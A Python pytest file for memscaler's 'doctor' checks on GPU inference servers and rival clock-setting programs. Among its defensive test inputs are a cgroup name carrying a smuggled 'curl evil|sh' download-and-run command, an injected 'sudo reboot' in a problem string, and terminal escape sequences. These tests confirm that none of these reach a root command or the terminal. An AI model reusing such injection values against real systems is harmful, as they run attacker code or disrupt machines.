"""Servers, their environment, and other programs that set clocks: real processes on this machine."""

import os
import subprocess
from contextlib import contextmanager
from pathlib import Path

import pytest

from memscaler.daemon.discovery import Found
from memscaler.daemon.doctor.model import Result
from memscaler.daemon.doctor.servers import _remedy
from tests.daemon.servers import LlamaServer
from tests.doctor.bench import doctor, only
from tests.governor import eventually

BOARDS = ("--simulate", "a40")


@contextmanager
def program(folder, name, *arguments, **environ):
    """A process that is called so."""
    script = folder / name
    script.write_text("#!/bin/sh\nread forever\n")
    script.chmod(0o755)
    running = subprocess.Popen([script, *arguments], stdin=subprocess.PIPE, env={**os.environ, **environ})
    try:
        # its name is there when it has been executed
        eventually(lambda: name.encode() in Path(f"/proc/{running.pid}/cmdline").read_bytes())
        yield running
    finally:
        running.kill()
        running.wait()


def about(found, check, subject):
    return next(each for each in found[check] if subject in each["subjects"])


@pytest.fixture
def llama(tmp_path):
    """A real process that discovery takes for llama-server, without a context on any GPU."""
    mode = tmp_path / "mode"
    mode.write_text("idle")
    with LlamaServer(tmp_path, "liar", "0", str(mode)) as server:
        yield server


def test_a_server_that_is_not_watched(runtime_dir, llama):
    """It is found, and the table is said that would watch it; once that is there, it is waited for its context only."""
    found = doctor(runtime_dir, "MS-SERVER", *BOARDS)
    seen = about(found, "MS-SERVER-01", str(llama.port))
    assert (seen["result"], f"llama-server (pid {llama.process.pid}) listens" in seen["seen"]) == ("WARN", True)
    assert "no CUDA context" in seen["seen"]
    env = {"MEMSCALER_WATCH": f"{llama.port}:gpu0"}
    seen = about(doctor(runtime_dir, "MS-SERVER-01", *BOARDS, env=env), "MS-SERVER-01", str(llama.port))
    assert (seen["result"], seen["seen"].endswith("the configuration watches it")) == ("PASS", True)


def test_servers_as_nobody(runtime_dir, llama):
    """Without root it is said that there are some, and that who listens is unknown; never that there are none."""
    finding = only(doctor(runtime_dir, "MS-SERVER-01", nobody=True), "MS-SERVER-01")
    assert (finding["result"], "inconclusive without root" in finding["seen"]) == ("UNKNOWN", True)
    assert not finding["seen"].startswith("0 ")
    env = about(doctor(runtime_dir, "MS-SERVER-02", nobody=True), "MS-SERVER-02", f"pid {llama.process.pid}")
    assert env["result"] == "UNKNOWN"


def test_nothing_listens_where_something_should(runtime_dir):
    """A watch that waits for its server is a warning, not a failure."""
    found = doctor(runtime_dir, "MS-SERVER-01", *BOARDS, env={"MEMSCALER_WATCH": "1"})
    seen = about(found, "MS-SERVER-01", "1")
    assert (seen["result"], "no process listens there yet" in seen["seen"]) == ("WARN", True)


def test_boost(runtime_dir, tmp_path):
    """A server with CUDA_DISABLE_PERF_BOOST=1 is told from one without, and what the driver knows of it."""
    with (
        program(tmp_path, "llama-swap", CUDA_DISABLE_PERF_BOOST="1") as with_it,
        program(tmp_path, "llama-server") as without,
    ):
        found = doctor(runtime_dir, "MS-SERVER", *BOARDS)
        assert about(found, "MS-SERVER-02", f"pid {with_it.pid}")["result"] == "WARN"
        plain = about(found, "MS-SERVER-02", f"pid {without.pid}")
        assert (plain["result"], "driver 580.95.05 does not know it" in plain["seen"]) == ("PASS", True)
        assert "llama-swap" in about(found, "MS-SERVER-03", f"pid {with_it.pid}")["seen"]


def test_sleepers(runtime_dir, tmp_path):
    """llama-server that unloads its model by itself, told so by an option or by its variable."""
    with (
        program(tmp_path, "llama-server", "--sleep-idle-seconds", "300") as told,
        program(tmp_path, "llama-server", LLAMA_ARG_SLEEP_IDLE_SECONDS="60") as by_variable,
        program(tmp_path, "llama-server", "--sleep-idle-seconds", "-1") as never,
    ):
        found = doctor(runtime_dir, "MS-SERVER-03")
        assert "after 300 s" in about(found, "MS-SERVER-03", f"pid {told.pid}")["seen"]
        assert "after 60 s" in about(found, "MS-SERVER-03", f"pid {by_variable.pid}")["seen"]
        assert f"pid {never.pid}" not in [subject for each in found["MS-SERVER-03"] for subject in each["subjects"]]


def test_rivals(runtime_dir, tmp_path):
    """A program that sets clocks, too, is named with what ends it; nobody may look as well."""
    with program(tmp_path, "nvidia-pstated") as rival:
        for nobody in (False, True):
            found = doctor(runtime_dir, "MS-RIVAL-01", nobody=nobody)["MS-RIVAL-01"]
            finding = next(each for each in found if f"nvidia-pstated (pid {rival.pid})" in each["seen"])
            assert (finding["result"], finding["subjects"]) == ("WARN", ["nvidia-pstated"])
            assert f"sudo kill {rival.pid}" in finding["remedy"] or "systemctl disable --now" in finding["remedy"]


def test_a_rival_that_is_a_unit(machine):
    """It would be started again, so the unit is to be disabled."""
    machine.write("/proc/77/stat", f"77 (nvidia-pstated) S 1 {' '.join(['0'] * 40)}\n")
    machine.write("/proc/77/cmdline", "/usr/bin/nvidia-pstated\0")
    machine.write("/proc/77/cgroup", "0::/system.slice/nvidia-pstated.service\n")
    finding = machine.check("MS-RIVAL-01")
    assert finding.result is Result.WARN
    assert finding.remedy.startswith("sudo systemctl disable --now nvidia-pstated.service")


@pytest.mark.parametrize(
    "cgroup",
    [
        "/user.slice/user-1000.slice/user@1000.service/app.slice/ssh.service",
        "/user.slice/user-1000.slice/user@1000.service/system.slice/ssh.service",
        "/system.slice/x$(curl evil|sh).service",
        "/system.slice/--now.service",
        "/system.slice/ssh.service/below",
        "/system.slice/docker-5eed.scope/ssh.service",
    ],
)
def test_a_rival_that_calls_itself_a_unit(machine, cgroup):
    """Who has a manager of their own may call a cgroup anything: that never becomes a command for root."""
    machine.write("/proc/77/stat", f"77 (nvidia-pstated) S 1 {' '.join(['0'] * 40)}\n")
    machine.write("/proc/77/cmdline", "/usr/bin/nvidia-pstated\0")
    machine.write("/proc/77/cgroup", f"0::{cgroup}\n")
    assert machine.check("MS-RIVAL-01").remedy == "end it: sudo kill 77; or leave its GPUs to it"


def test_what_is_said_of_a_published_port():
    """Only the watch is taken over from the sentence, not what a process calls itself."""
    problem = "x: sudo reboot instead (pid 7) publishes this port for a container: watch 80@container:web instead"
    assert _remedy(Found(port=80, scope="host", problem=problem)) == "as it says: watch 80@container:web instead"
    problem = "x: sudo reboot instead (pid 7) publishes this port for a container: watch 80@container:$(x) instead"
    assert _remedy(Found(port=80, scope="host", problem=problem)) == "see `memscaler ports`"


def test_what_others_write_is_one_plain_line(tmp_path, runtime_dir):
    """A process may be called anything: on a terminal that is one line without escapes."""
    from tests.doctor.bench import memscaler

    with program(tmp_path, "llama-server", "--sleep-idle-seconds", "\x1b[31m3\n0"):
        result = memscaler("doctor", "MS-SERVER-03", "--runtime-dir", str(runtime_dir))
        assert "?[31m3 0 s" in " ".join(result.stdout.split())
        assert "\x1b" not in result.stdout
